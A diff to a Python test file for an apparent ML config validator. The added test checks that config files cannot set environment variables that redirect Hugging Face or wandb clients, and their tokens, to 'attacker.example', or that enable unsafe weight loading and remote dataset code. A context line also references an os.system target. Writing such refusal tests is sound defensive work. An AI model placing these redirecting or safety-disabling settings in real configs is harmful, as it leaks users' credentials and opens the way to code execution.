@@ -195,3 +195,22 @@ def test_an_interpolation_that_becomes_a_target_is_walked_as_what_it_becomes(tmp
     assert line.startswith("hydra.callbacks.sweep_summary.payload._target_='os.system': a _target_ is not allowed here")
     assert not (tmp_path / "pwned").exists()
 
+
+
+def test_a_config_file_sets_no_variable_that_redirects_a_client_or_its_credentials(tmp_path: Path):
+    # HF_ENDPOINT + HF_HUB_OFFLINE=0 sent the HF token to the file's host; WANDB_BASE_URL + WANDB_MODE the wandb key
+    for name, value in (("HF_ENDPOINT", "http://attacker.example"), ("HF_HUB_OFFLINE", "'0'"),
+                        ("WANDB_BASE_URL", "http://attacker.example"), ("WANDB_MODE", "online"), ("WANDB_API_KEY", "x"),
+                        ("HF_TOKEN", "x"), ("HF_HOME", "/tmp/hf"), ("TORCH_HOME", "/tmp/t"), ("NCCL_NET_PLUGIN", "evil"),
+                        ("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "'1'"), ("HF_DATASETS_TRUST_REMOTE_CODE", "'1'")):
+        write(tmp_path / "experiment" / "client.yaml", f"# @package _global_\nhydra:\n  job:\n    env_set:\n      {name}: {value}\n")
+        line = refused("--config-dir", str(tmp_path), "experiment=client")
+        assert line.startswith(f"hydra.job.env_set.{name} sets an environment variable from a config file; allowed there: "
+                               "names starting with CUDA_,"), name
+        assert "that choose no endpoint, credential, online or offline mode, path or code to load" in line
+    # harmless settings under the same prefixes stay allowed from a file; the command line may set any
+    write(tmp_path / "experiment" / "fine.yaml", "# @package _global_\nhydra:\n  job:\n    env_set:\n"
+          "      WANDB_PROJECT: cl\n      HF_HUB_DISABLE_PROGRESS_BARS: '1'\n      NCCL_P2P_DISABLE: '1'\n      OMP_NUM_THREADS: '2'\n")
+    assert prepare("--config-dir", str(tmp_path), "experiment=fine").args[-1] == "experiment=fine"
+    typed = "+hydra.job.env_set.HF_ENDPOINT=http://mirror.local"
+    assert prepare(typed).args == [typed]
